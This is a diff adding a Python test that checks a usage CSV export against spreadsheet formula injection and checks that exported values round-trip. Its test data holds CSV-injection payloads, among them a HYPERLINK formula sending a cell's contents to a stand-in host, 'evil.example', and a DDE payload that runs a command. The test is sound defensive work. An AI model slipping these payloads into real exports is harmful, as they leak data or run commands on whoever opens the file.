@@ -153,9 +153,39 @@ def _typed(cells: dict[str, str]) -> dict[str, Any]:
             out[name] = {"true": True, "false": False}[text]
         elif name == "timestamp":
             out[name] = datetime.fromisoformat(text)
-        else:
-            out[name] = text
+        else:  # text: the export prefixed one `'` to neutralise a formula (docs/usage.md)
+            out[name] = text[1:] if text.startswith("'") else text
     return out
+
+
+FORMULAS = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+    "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'already quoted", "''twice", "plain-model",
+]
+
+
+async def test_the_export_neutralises_formulas_and_still_round_trips(portal: Portal) -> None:
+    stamp = START + timedelta(days=7)
+    records = [
+        make_record(timestamp=stamp + timedelta(seconds=i), model=text, specialist_name=text,
+                    error_kind=text[:64], estimated_cost_usd=-1.5, output_tokens=0)
+        for i, text in enumerate(FORMULAS)
+    ]
+    await insert_batch(portal.engine, records)
+    response = await portal.client.get("/usage/export", headers=ADMIN, params={
+        "from": stamp.isoformat(), "to": (stamp + timedelta(hours=1)).isoformat(),
+    })
+    raw = list(csv.DictReader(io.StringIO(response.text)))
+    assert len(raw) == len(FORMULAS)
+    for cells, text in zip(raw, FORMULAS, strict=True):
+        for name in ("model", "specialist_name", "error_kind"):
+            # What a spreadsheet sees: no text cell starts a formula, a quote shows text.
+            assert not cells[name].startswith(("=", "+", "-", "@", "\t", "\r")), cells[name]
+            assert cells[name] == (f"'{text}" if text[0] in "=+-@\t\r'" else text)
+        assert cells["estimated_cost_usd"] == "-1.5"  # a number, not text: left as it is
+        typed = _typed(cells)
+        assert (typed["model"], typed["specialist_name"]) == (text, text)
+        assert typed["estimated_cost_usd"] == -1.5
 
 
 async def test_admin_endpoints_need_the_token(portal: Portal) -> None:
